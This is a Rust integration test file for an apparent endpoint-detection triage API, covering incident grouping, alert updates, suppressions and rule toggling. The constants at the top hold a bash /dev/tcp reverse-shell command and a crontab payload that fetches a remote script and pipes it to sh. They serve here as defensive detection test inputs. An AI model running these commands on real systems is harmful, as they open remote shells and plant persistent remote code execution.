//! Triage over the real API, with events sent through the real uplink: alerts of one device
//! form one incident, an analyst updates an alert and resolves the incident (bad input is
//! refused naming the field), a suppression hides a second alert, and a disabled rule raises
//! nothing until it is enabled again.

use std::time::Duration;

use serde_json::{json, Value};

use crate::harness::{exec, rule_id, uplink, wait_until, Api, Fixture};

const REVERSE_SHELL: &str = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
const CRON_PAYLOAD: &str =
    "sh -c '(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://203.0.113.8/a.sh | sh\") | crontab -'";

fn alert_of(api: &Api, rule: &str) -> Option<Value> {
    api.alerts("").into_iter().find(|a| a["RuleId"] == rule)
}

#[test]
fn alerts_of_one_device_form_an_incident_that_an_analyst_triages_over_the_api() {
    let fx = Fixture::new("dev-triage");
    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    let shell_rule = rule_id("command_and_control/bash_dev_tcp_reverse_shell.yml");
    let cron_rule = rule_id("persistence/cron_entry_with_payload.yml");

    up.send(vec![exec(
        "/usr/bin/bash",
        REVERSE_SHELL,
        "/usr/sbin/nginx",
        "www-data",
        4242,
    )]);
    let mut shell = None;
    wait_until("the reverse-shell alert", 30, || {
        shell = alert_of(&fx.api, &shell_rule);
        shell.is_some()
    });
    up.send(vec![exec(
        "/bin/sh",
        CRON_PAYLOAD,
        "/usr/sbin/php-fpm8.2",
        "www-data",
        4343,
    )]);
    let mut cron = None;
    wait_until("the cron alert", 30, || {
        cron = alert_of(&fx.api, &cron_rule);
        cron.is_some()
    });
    let (shell, cron) = (shell.unwrap(), cron.unwrap());

    // Two alerts on one device: one incident.
    let incident = shell["IncidentId"]
        .as_str()
        .expect("in an incident")
        .to_string();
    assert_eq!(cron["IncidentId"], incident.as_str());
    let (st, inc) = fx.api.get(&format!("/api/v1/incidents/{incident}"));
    assert_eq!(st, 200, "{inc}");
    let on_device = fx.api.alerts("?device=dev-triage").len();
    assert!(on_device >= 2);
    assert_eq!(inc["AlertCount"], on_device as i64, "{inc}");
    assert_eq!(inc["Alerts"].as_array().unwrap().len(), on_device);
    assert_eq!(inc["Severity"], "High");
    assert_eq!(inc["Devices"], json!(["dev-triage"]));
    let title = inc["Title"].as_str().unwrap();
    assert!(
        title.ends_with(" on dev-triage.test") && title.contains("ersistence"),
        "{title}"
    );
    let (_, listed) = fx.api.get("/api/v1/incidents?status=New");
    assert_eq!(listed.as_array().unwrap().len(), 1, "{listed}");

    // An analyst takes the reverse-shell alert.
    let id = shell["AlertId"].as_str().unwrap();
    let (st, a) = fx.api.patch(
        &format!("/api/v1/alerts/{id}"),
        json!({ "status": "InProgress", "assignee": "alice", "comment": "isolating the host" }),
    );
    assert_eq!(st, 200, "{a}");
    assert_eq!(a["Status"], "InProgress");
    assert_eq!(a["AssignedTo"], "alice");
    assert_eq!(a["Comments"][0]["Comment"], "isolating the host");
    assert!(!a["Comments"][0]["Author"].as_str().unwrap().is_empty());
    assert!(a["History"].as_array().unwrap().len() >= 2, "{a}");

    // Bad input: 400 naming the field and the allowed values; nothing changes.
    let patch = |body: Value| fx.api.patch(&format!("/api/v1/alerts/{id}"), body);
    let (st, e) = patch(json!({ "status": "Closed", "assignee": "bob" }));
    assert_eq!(st, 400, "{e}");
    assert_eq!(
        e["error"],
        "invalid status \"Closed\": must be one of New, InProgress, Resolved"
    );
    let (st, e) = patch(json!({ "classification": "FalsePositive", "determination": "Malware" }));
    assert_eq!(st, 400, "{e}");
    assert!(e["error"].as_str().unwrap().contains("NotMalicious"), "{e}");
    let (st, e) = patch(json!({ "colour": "red" }));
    assert_eq!(st, 400, "{e}");
    assert!(e["error"].as_str().unwrap().contains("\"colour\""), "{e}");
    let (st, _) = patch(json!({}));
    assert_eq!(st, 400);
    let (_, a) = fx.api.get(&format!("/api/v1/alerts/{id}"));
    assert_eq!(
        (a["Status"].as_str(), a["AssignedTo"].as_str()),
        (Some("InProgress"), Some("alice"))
    );
    let (st, _) = fx.api.patch(
        "/api/v1/alerts/al_0000000000000000",
        json!({ "status": "New" }),
    );
    assert_eq!(st, 404);
    let (st, c) = fx.api.post(
        &format!("/api/v1/alerts/{id}/comments"),
        json!({ "comment": "c2 at 10.0.0.1" }),
    );
    assert_eq!(st, 200, "{c}");

    // Filters.
    assert_eq!(fx.api.alerts("?status=InProgress").len(), 1);
    let (st, e) = fx.api.get("/api/v1/alerts?severity=Severe");
    assert_eq!(st, 400, "{e}");

    // Resolving the incident resolves its alerts, with its classification.
    let (st, inc) = fx.api.patch(&format!("/api/v1/incidents/{incident}"), 
            json!({ "status": "Resolved", "classification": "TruePositive", "determination": "MultiStagedAttack" }),
    );
    assert_eq!(st, 200, "{inc}");
    for a in inc["Alerts"].as_array().unwrap() {
        assert_eq!(a["Status"], "Resolved", "{a}");
        assert_eq!(a["Determination"], "MultiStagedAttack", "{a}");
    }
    assert_eq!(fx.api.alerts("?status=Resolved").len(), on_device);
    up.shutdown(Duration::from_secs(1));
}

#[test]
fn a_suppression_hides_a_second_alert_and_a_disabled_rule_raises_nothing() {
    let fx = Fixture::new("dev-quiet");
    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    let shell_rule = rule_id("command_and_control/bash_dev_tcp_reverse_shell.yml");
    let cron_rule = rule_id("persistence/cron_entry_with_payload.yml");

    up.send(vec![exec(
        "/usr/bin/bash",
        REVERSE_SHELL,
        "/usr/sbin/nginx",
        "www-data",
        10,
    )]);
    wait_until("the first alert", 30, || {
        alert_of(&fx.api, &shell_rule).is_some()
    });

    // Refused suppressions name the problem.
    let (st, e) = fx.api.post(
        "/api/v1/suppressions",
        json!({ "rule_id": shell_rule, "conditions": [{ "key": "Colour", "pattern": "x" }], "action": "hide" }),
    );
    assert_eq!(st, 400, "{e}");
    assert!(
        e["error"]
            .as_str()
            .unwrap()
            .contains("InitiatingProcessFileName"),
        "{e}"
    );
    let (st, e) = fx.api.post(
        "/api/v1/suppressions",
        json!({ "rule_id": "no-such-rule", "action": "hide" }),
    );
    assert_eq!(st, 400, "{e}");

    let (st, s) = fx.api.post(
        "/api/v1/suppressions",
        json!({
            "rule_id": shell_rule,
            "conditions": [{ "key": "InitiatingProcessFileName", "pattern": "ngin*" }],
            "devices": ["dev-quiet"],
            "action": "hide",
            "ttl_seconds": 3600,
            "comment": "red team exercise",
        }),
    );
    assert_eq!(st, 200, "{s}");
    let sid = s["SuppressionId"].as_str().unwrap().to_string();

    // Another image (so another alert group): hidden by the suppression, and counted.
    up.send(vec![exec(
        "/bin/bash",
        REVERSE_SHELL,
        "/usr/sbin/nginx",
        "www-data",
        11,
    )]);
    wait_until("the suppression applied", 30, || {
        let (_, v) = fx.api.get("/api/v1/suppressions");
        v[0]["Hits"] == 1
    });
    let shells: Vec<Value> = fx
        .api
        .alerts("")
        .into_iter()
        .filter(|a| a["RuleId"] == shell_rule.as_str())
        .collect();
    assert_eq!(shells.len(), 1, "the second alert is hidden: {shells:?}");
    let (st, _) = fx.api.delete(&format!("/api/v1/suppressions/{sid}"));
    assert_eq!(st, 200);
    let (st, _) = fx.api.delete(&format!("/api/v1/suppressions/{sid}"));
    assert_eq!(st, 404);

    // Disable the rule: a reverse shell (new group) raises nothing, while another rule in the
    // same batch still does.
    let (_, rules) = fx.api.get("/api/v1/rules");
    let r = rules
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["RuleId"] == shell_rule.as_str())
        .expect("in the catalogue");
    assert_eq!(
        (r["Enabled"].as_bool(), r["Severity"].as_str()),
        (Some(true), Some("High"))
    );
    let (st, v) = fx
        .api
        .post(&format!("/api/v1/rules/{shell_rule}/disable"), json!({}));
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["Enabled"], false);
    let (st, _) = fx.api.post("/api/v1/rules/no-such-rule/disable", json!({}));
    assert_eq!(st, 404);
    up.send(vec![
        exec(
            "/usr/local/bin/bash",
            REVERSE_SHELL,
            "/usr/sbin/nginx",
            "www-data",
            12,
        ),
        exec(
            "/bin/sh",
            CRON_PAYLOAD,
            "/usr/sbin/php-fpm8.2",
            "www-data",
            13,
        ),
    ]);
    wait_until("the cron alert of the same batch", 30, || {
        alert_of(&fx.api, &cron_rule).is_some()
    });
    let shells = fx
        .api
        .alerts("")
        .into_iter()
        .filter(|a| a["RuleId"] == shell_rule.as_str())
        .count();
    assert_eq!(shells, 1, "the disabled rule raised nothing");
    let (_, rules) = fx.api.get("/api/v1/rules");
    let r = rules
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["RuleId"] == shell_rule.as_str())
        .unwrap();
    assert_eq!(r["Enabled"], false);

    // Enabled again: it raises.
    let (st, _) = fx
        .api
        .post(&format!("/api/v1/rules/{shell_rule}/enable"), json!({}));
    assert_eq!(st, 200);
    up.send(vec![exec(
        "/opt/bash",
        REVERSE_SHELL,
        "/usr/sbin/nginx",
        "www-data",
        14,
    )]);
    wait_until("the re-enabled rule's alert", 30, || {
        fx.api
            .alerts("")
            .iter()
            .filter(|a| a["RuleId"] == shell_rule.as_str())
            .count()
            == 2
    });
    up.shutdown(Duration::from_secs(1));
}
